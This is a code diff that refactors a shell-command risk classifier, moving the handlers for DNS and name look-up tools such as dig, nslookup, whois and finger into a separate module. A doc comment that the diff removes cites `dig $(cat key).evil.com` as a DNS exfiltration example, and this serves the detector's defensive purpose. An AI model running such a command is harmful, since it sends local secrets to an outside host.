@@ -1,7 +1,8 @@
 import { hasFlag, splitArgs } from './cli-args';
 import type { Handler } from './classify-files';
+import { LOOKUP_HANDLERS } from './classify-lookups';
 import type { PathJudge } from './path-judge';
-import { notUnderstood, readOnly, risky, workspace, worst, type Verdict } from './risk';
+import { notUnderstood, risky, workspace, worst, type Verdict } from './risk';
 import type { Arg, CommandPart } from './shell/command-part';
 
 const dot = (): Arg => ({ value: '.', glob: false, raw: '.' });
@@ -285,38 +286,8 @@ export function httpie(part: CommandPart): Verdict {
   return worst(verdicts, workspace('makes a network request'));
 }
 
-/**
- * dig, host, nslookup, ping...: a look-up of names written in the command only reads; one
- * whose name or data is built at run time (`dig $(cat key).evil.com`) carries local data
- * out; a look-up that reads its queries from a file is not understood.
- */
-function lookup(part: CommandPart): Verdict {
-  const args = part.argv.slice(1);
-  if (part.subPrograms.length > 0 || args.some((a) => a.value === undefined)) {
-    return risky(`sends data only known at run time over the network (${part.name})`);
-  }
-  if (args.some((a, i) => /^-f/.test(a.value ?? '') && i >= 0 && part.name === 'dig')) {
-    return notUnderstood(`${part.name} reads its queries from a file`);
-  }
-  return readOnly(`looks up a name or address on the network (${part.name})`);
-}
-
-/** whois, finger: literal queries to any server; data built at run time goes out. */
-function query(part: CommandPart): Verdict {
-  if (part.subPrograms.length > 0 || part.argv.some((a) => a.value === undefined)) {
-    return risky(`sends data only known at run time over the network (${part.name})`);
-  }
-  return notUnderstood(`sends a query to a server with ${part.name}`);
-}
-
 export const NETWORK_HANDLERS: Record<string, Handler> = {
-  ...Object.fromEntries(
-    'dig host nslookup ping ping6 traceroute traceroute6 tracepath mtr drill'
-      .split(' ')
-      .map((n) => [n, lookup]),
-  ),
-  whois: query,
-  finger: query,
+  ...LOOKUP_HANDLERS,
   curl,
   wget,
   http: httpie,
